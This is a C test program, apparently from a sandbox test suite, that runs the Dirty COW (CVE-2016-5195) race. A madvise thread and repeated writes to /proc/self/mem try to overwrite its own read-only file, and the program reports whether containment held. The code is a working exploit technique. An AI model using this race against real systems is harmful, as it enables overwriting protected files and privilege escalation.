// attacks: 95
// expect: AC
// time: 1
// CVE-2016-5195: a private page of a read-only file is written to while it is thrown away. The file is its own program.
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
static char *map;
static volatile int stop;
static void *discard(void *x) {
  while (!stop) madvise(map, 4096, MADV_DONTNEED);
  return x;
}
int main(void) {
  char before[16], after[16];
  int fd = open("/box/main", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
  if (!pread(fd, before, sizeof before, 0)) return puts("cannot begin"), 0;
  map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  pthread_t thread;
  pthread_create(&thread, 0, discard, 0);
  for (int i = 0; i < 20000; i++) (void)!pwrite(memory, "overwritten.....", 16, (off_t)(size_t)map);
  stop = 1;
  pthread_join(thread, 0);
  (void)!pread(fd, after, sizeof after, 0);
  puts(memcmp(before, after, sizeof before) ? "the file has changed" : "contained");
}
